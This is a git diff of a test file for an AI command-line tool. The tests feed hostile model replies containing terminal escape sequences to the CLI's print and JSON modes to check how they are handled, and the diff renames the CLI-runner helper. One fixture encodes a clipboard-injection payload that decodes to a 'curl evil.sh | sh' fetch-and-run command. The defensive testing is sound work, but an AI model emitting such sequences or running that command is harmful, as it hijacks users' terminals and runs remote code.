@@ -8,7 +8,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { startScriptedServer, type ScriptedServer } from '../helpers/scriptedServer.js';
-import { runCli } from '../helpers/runCli.js';
+import { runCogito } from '../helpers/cogitoProcess.js';
 
 const KEY = 'sk-print-attack-key';
 const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07';
@@ -38,7 +38,7 @@ describe('print mode against hostile model text', () => {
     const reply = `copy ${OSC52}this ${OSC8} then ${CURSOR} and ${C1_CSI}red [WAIT]`;
     // One character per chunk: every sequence arrives split over many deltas.
     server.push({ kind: 'stream', content: [...reply], reasoning: `think ${OSC52}hard` });
-    const run = runCli(['-p', 'hi', '--workspace', ws, '--home', home], env);
+    const run = runCogito(['-p', 'hi', '--workspace', ws, '--home', home], env);
     expect(await run.code).toBe(0);
     const out = run.stdout();
     expect(out).toContain('copy this click here then all good and red [WAIT]');
@@ -54,7 +54,7 @@ describe('print mode against hostile model text', () => {
   it('--json keeps the model text exact', async () => {
     const reply = `copy ${OSC52}this [WAIT]`;
     server.push({ kind: 'stream', content: reply });
-    const run = runCli(['-p', 'hi', '--json', '--workspace', ws, '--home', home], env);
+    const run = runCogito(['-p', 'hi', '--json', '--workspace', ws, '--home', home], env);
     expect(await run.code).toBe(0);
     const text = run
       .stdout()
@@ -83,7 +83,7 @@ describe('print mode against hostile model text', () => {
       { kind: 'stream', content: 'Opened. [WAIT]' },
     );
     try {
-      const run = runCli(['-p', 'show me', '--workspace', ws, '--home', home], {
+      const run = runCogito(['-p', 'show me', '--workspace', ws, '--home', home], {
         ...env,
         PATH: `${bin}:${process.env.PATH ?? ''}`,
       });
